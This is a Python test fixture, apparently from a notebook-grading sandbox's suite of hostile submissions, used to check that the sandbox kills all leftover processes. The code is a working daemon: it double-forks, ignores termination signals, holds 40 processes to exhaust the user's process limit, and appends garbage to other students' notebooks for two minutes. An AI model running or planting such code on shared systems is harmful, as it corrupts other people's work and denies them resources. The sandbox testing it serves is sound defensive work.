# ruff: noqa
"""Background processes that try to outlive the sandbox and touch later students' grading.

Right code, and the answer cell starts a daemon (double fork, setsid tried (the sandbox
refuses it), SIGHUP/SIGTERM ignored) that holds 40 sleeping processes of the sandbox's user for two minutes (a later
student of the same worker, the same user, would run out of processes) and meanwhile
tries to write into every other student's notebooks it can name. The sandbox's PID
namespace must end them all with the notebook: nothing of the batch is left running.
"""

import numpy as np  # noqa: F401


# %% answer_calc_delta
# @RIGHT_calc_delta@ (the instructor's code, put in by tests/test_hostile.py)


import glob
import os
import signal
import time


def _daemon():
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
    except OSError:  # the sandbox's seccomp filter: no new session
        pass
    if os.fork():
        os._exit(0)
    for sig in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    for _ in range(40):
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
    end = time.time() + 120
    while time.time() < end:
        for path in glob.glob("@GRADE_DIR@/*/*/bptt/*.ipynb") + glob.glob(
                "@GRADE_DIR@/workers/*/*/*/bptt/*.ipynb"):
            try:
                with open(path, "a") as fh:
                    fh.write("garbage")
            except OSError:
                pass
        time.sleep(0.5)
    os._exit(0)


_daemon()
print(f"daemon started by uid {os.getuid()}")
